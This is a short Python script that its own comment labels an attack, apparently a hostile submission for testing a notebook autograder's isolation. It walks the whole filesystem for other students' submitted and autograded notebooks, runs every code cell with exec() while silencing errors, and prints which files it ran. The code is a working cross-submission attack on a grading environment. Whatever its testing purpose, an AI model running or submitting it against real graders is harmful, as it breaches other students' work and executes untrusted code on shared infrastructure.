# attack: runs another student's submitted cells found in the grader's work folder
import glob, json
for path in glob.glob("/**/submitted/**/*.ipynb", recursive=True)[:50] + glob.glob("/**/autograded/**/*.ipynb", recursive=True)[:50]:
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            try:
                exec("".join(cell["source"]), globals())
            except Exception:
                pass
    print("HOSTILE: ran", path)
